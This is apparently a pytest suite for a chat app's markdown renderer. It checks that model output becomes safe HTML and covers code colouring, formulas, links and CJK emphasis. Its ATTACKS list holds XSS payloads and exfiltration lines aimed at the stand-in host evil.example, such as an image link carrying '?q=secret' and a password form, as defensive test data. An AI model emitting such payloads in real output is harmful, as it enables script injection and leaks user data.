"""Model output becomes HTML that can carry nothing out and run nothing."""

import re
from html.parser import HTMLParser

import pytest
from django.utils import translation

from chat import markdown
from chat.markdown import ATTRIBUTES, TAGS, code, render
from chat.markdown.formulas import LONGEST, MOST_NESTED

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![pixel](https://evil.example/?q=secret)",
    "[![pixel](https://evil.example/p.png)](https://evil.example)",
    "![pixel][1]\n\n[1]: https://evil.example/p.png",
    '<p style="background:url(https://evil.example)">x</p>',
    '<svg onload="alert(1)"><style>*{}</style></svg>',
    "<iframe src=https://evil.example></iframe><object></object><embed>",
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<link rel=stylesheet href="https://evil.example"><meta http-equiv=refresh content="0;https://evil.example">',
    "|a|\n|-:|\n|<img src=x>|",
    '```python" onmouseover="alert(1)\nx = 1\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "<math><mtext><style><img src=x onerror=alert(1)>",
    '<div hx-get="/agents/" hx-trigger="load">x</div>',
    '[x](https://ok.example "title\\" onclick=alert(1)")',
    r"\(\text{<img src=x onerror=alert(1)>}\)",
    r"\[\href{javascript:alert(1)}{x} \style{color:red}{y}\]",
    r"$\color{red}{x}$ \(\hspace{-90em}x\)",
    "javascript://x.example/%0aalert(1) ftp://x.example //x.example",
]


class _Seen(HTMLParser):
    """What a browser would find in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("attack", ATTACKS)
def test_only_harmless_tags_attributes_and_links_survive(attack: str) -> None:
    seen = _Seen(render(attack))
    allowed = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names} | {
        *(("a", "target"), ("a", "rel"), ("span", "role"), ("mtd", "class"))
    }
    assert seen.tags <= TAGS
    assert seen.attributes <= allowed
    assert all(link.startswith(("https://", "http://", "mailto:")) for link in seen.links)


def test_nothing_that_loads_or_runs_is_among_the_allowed() -> None:
    dangerous = {"script", "style", "img", "svg", "iframe", "object", "embed", "form", "input", "link", "meta", "video"}
    names = {name for attributes in ATTRIBUTES.values() for name in attributes}
    assert not TAGS & dangerous
    assert not names & {"style", "src", "srcset", "id", "name"}
    assert not [name for name in names if name.startswith(("on", "hx-", "data-"))]


def test_html_is_shown_as_the_text_it_is() -> None:
    assert "<script>alert(1)</script> & more" in _Seen(render("Look: <script>alert(1)</script> & more")).text


def test_links_open_apart_and_tell_nothing() -> None:
    html = render("[the site](https://example.org/a?b=1)")
    assert 'href="https://example.org/a?b=1"' in html
    assert 'target="_blank"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_code_of_a_known_language_is_coloured_with_classes_alone() -> None:
    html = render("```python\ndef greet(name):\n    return f'hi {name}'\n```")
    assert '<span class="k">def</span>' in html and "style" not in html
    assert _Seen(html).text.strip() == "def greet(name):\n    return f'hi {name}'"
    assert html.count("<pre>") == 1


@pytest.mark.parametrize("language", ["", "nosuchlanguage"])
def test_code_of_no_known_language_is_shown_plainly(language: str) -> None:
    html = render(f"```{language}\na < b\n```")
    assert "a &lt; b" in html and "<span" not in html


def test_code_too_long_to_colour_is_shown_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(code, "get_lexer_by_name", lambda *_: pytest.fail("it was coloured"))
    long = "x = 1\n" * (code.LONGEST // 6 + 1)
    assert _Seen(render(f"```python\n{long}```")).text.strip() == long.strip()


def test_code_of_a_language_few_people_write_is_shown_plainly(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(code, "get_lexer_by_name", lambda *_: pytest.fail("it was coloured"))
    assert "<span" not in render("```autohotkey\n" + "a := 1\n" * 300 + "```")


def test_code_is_coloured_once_however_often_it_is_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "```python\nonly = 'here'\n```"
    first = render(text)
    monkeypatch.setattr(code, "get_lexer_by_name", lambda *_: pytest.fail("it was coloured again"))
    assert render(text) == first and '<span class="o">' in first


def test_colouring_ends_after_a_while_for_all_code_of_a_message(monkeypatch: pytest.MonkeyPatch) -> None:
    looks = iter(range(10**6))
    monkeypatch.setattr(code, "thread_time", lambda: next(looks) / 100)  # a hundredth of a second for each token
    html = render("".join(f"```python\na{n} = {n}; b = 1; c = 2; d = 3; e = 4; f = 5\n```\n" for n in range(40)))
    assert next(looks) < 100 * code.SECONDS + 2 + 40  # each piece that is left looks once more
    assert html.count("<pre>") == 40 and "<span" not in html


def test_a_message_longer_than_any_answer_is_shown_as_it_was_written(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown._renderer, "render", lambda *_: pytest.fail("it was parsed"))
    text = "**a** <b> " * (markdown.LONGEST // 10 + 1)
    assert _Seen(render(text)).text == text and "<b>" not in render(text)


def test_tables_lists_and_emphasis_are_drawn() -> None:
    html = render("|a|b|\n|-|-:|\n|1|2|\n\n1. one\n2. two\n\n**bold** *it* ~~gone~~ `code`\n\n> said")
    wanted = {"table", "thead", "tbody", "tr", "th", "td", "ol", "li", "strong", "em", "s", "code", "blockquote"}
    assert wanted <= _Seen(html).tags
    assert "style" not in html


def test_a_single_line_break_is_kept() -> None:
    assert "one<br>" in render("one\ntwo")


@pytest.mark.parametrize("text", ["", " ", "\n\n", "*", "[", "```", "|", "> " * 500, "[" * 2000, "*a " * 2000])
def test_any_text_can_be_rendered(text: str) -> None:
    assert _Seen(render(text)).tags <= TAGS


HOSTILE = [
    "$",
    "$a ",
    "$$\n",
    "\\[\n",
    "\\(",
    r"\(\frac{a}{b}\)",
    "**重",
    "https://",
    "://",
    "www.",
    "- [x] a\n",
    "[",
    "a.",
]


@pytest.mark.timeout(20)
@pytest.mark.parametrize("piece", HOSTILE)
def test_fifty_thousand_characters_of_anything_are_drawn_before_anybody_leaves(piece: str) -> None:
    assert _Seen(render(piece * (markdown.LONGEST // len(piece)))).tags <= TAGS


def test_what_was_slow_to_render_is_kept_in_each_language(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "SLOW", -1.0)
    monkeypatch.setattr(markdown, "_kept", {})
    first = render("- [x] done")
    assert render("- [x] done") is first and 'aria-label="ticked"' in first
    with translation.override("zh-hans"):
        assert 'aria-label="ticked"' not in render("- [x] done")
    for number in range(markdown.MOST_KEPT + 5):
        render(f"text {number}")
    assert len(markdown._kept) == markdown.MOST_KEPT


@pytest.mark.parametrize(
    "source", ["{" * LONGEST, "x^{" * MOST_NESTED, r"\not" * MOST_NESTED, r"\def\a{\a\a}\a", "\\frac"]
)
def test_a_formula_that_the_converter_would_not_survive_is_shown_as_it_was_written(source: str) -> None:
    assert "math" not in _Seen(render(rf"\({source}\)")).tags


@pytest.mark.parametrize(
    ("text", "bold"),
    [
        ("**重点：**内容。这是**“术语”**的解释。", ["重点：", "“术语”"]),
        ("请看**《红楼梦》**和**（注）**吧", ["《红楼梦》", "（注）"]),
        ("これは**「用語」**です。**注意！**次", ["「用語」", "注意！"]),
        ("한국어**(조선말)**은", ["(조선말)"]),
        ("用**`code`**写", ["code"]),
        ("**a**b a**“b”**c", ["a"]),
        ("a ** b ** c 重 ** 点", []),
    ],
)
def test_bold_beside_cjk(text: str, bold: list[str]) -> None:
    found = re.findall("<strong>(.*?)</strong>", render(text))
    assert [re.sub("<.*?>", "", part) for part in found] == bold


def test_emphasis_and_strikethrough_beside_cjk_and_underscores_as_ever() -> None:
    html = render("这*「很」*要~~“旧”~~的 snake_case_name _重_点")
    assert "<em>「很」</em>" in html and "<s>“旧”</s>" in html
    assert "snake_case_name _重_点" in html


@pytest.mark.parametrize(
    ("text", "addresses"),
    [
        ("See https://example.com/a_b_c?x=1", ["https://example.com/a_b_c?x=1"]),
        ("详见https://example.com/路径。", ["https://example.com/%E8%B7%AF%E5%BE%84"]),
        ("（http://a.example/x），“https://b.example”", ["http://a.example/x", "https://b.example"]),
        ("(https://en.wikipedia.org/wiki/A_(b)).", ["https://en.wikipedia.org/wiki/A_(b)"]),
        ("**https://a.example/x**!", ["https://a.example/x"]),
        ("www.example.org/a, www.a www.", ["https://www.example.org/a"]),
        ("readme.md a@example.org ftp://x.example //x.example", []),
        ("`https://a.example` [x](https://b.example)", ["https://b.example"]),
    ],
)
def test_bare_addresses_are_links_without_what_stands_around_them(text: str, addresses: list[str]) -> None:
    assert _Seen(render(text)).links == addresses


def test_ticked_lists_have_boxes_that_can_be_heard() -> None:
    html = render("- [x] bread\n- [ ] milk\n- [link](https://a.example)\n\n[x] no list")
    assert re.findall('aria-label="(.*?)">(.)</span> (\\w+)', html) == [
        ("ticked", "☑", "bread"),
        ("not ticked", "☐", "milk"),
    ]
    assert html.count('class="task"') == html.count('role="img"') == 2
    assert "[x] no list" in html


@pytest.mark.parametrize(
    "text",
    [
        r"Inline \(a^2+b^2=c^2\) here",
        r"So \[\int_0^1 x\,dx\] it is",
        "$$E = mc^2$$",
        "so:\n\\[\nx = 1\n+ 2\n\n- 3\n\\]\nmore",
        "> $$\n> x^2\n> $$",
        "1. so\n\n   \\[\n   x^2\n   \\]\n",
        "the $n$ of $x_{total}$",
        "能量$E=mc^2$是",
        "|a|\n|-|\n|$x$|",
        "\\[\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n\\]",
    ],
)
def test_formulas_are_drawn(text: str) -> None:
    html = render(text)
    assert "math" in _Seen(html).tags
    assert "style" not in html.replace("displaystyle", "") and "$" not in html and "\\" not in html


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10, US$5-$10, 5$ or 6$, $5 (about €4.60) or 5$.",
        "价格$5，涨到$8，还有$9。",
        "echo $HOME/$USER $my_var and $your_var",
        r"`\(x^2\)` and `$x$`",
        "```\n$$\nx^2\n$$\n```",
        "    $x^2$",
    ],
)
def test_money_variables_and_code_are_no_formulas(text: str) -> None:
    seen = _Seen(render(text))
    assert "math" not in seen.tags
    assert seen.text.strip() == re.sub("```|`", "", text).strip()


@pytest.mark.parametrize("formula", [r"\(\unknown{x}\)", r"\[\frac{1}{2\]", "$x^$", r"\(a^2 < <b>\)"])
def test_what_cannot_be_drawn_can_still_be_copied(formula: str) -> None:
    seen = _Seen(render(f"See {formula}."))
    assert formula in seen.text or "math" in seen.tags


def test_brackets_that_were_escaped_are_brackets() -> None:
    assert _Seen(render(r"as said \[1\] \(see below\)")).text.strip() == "as said [1] (see below)"
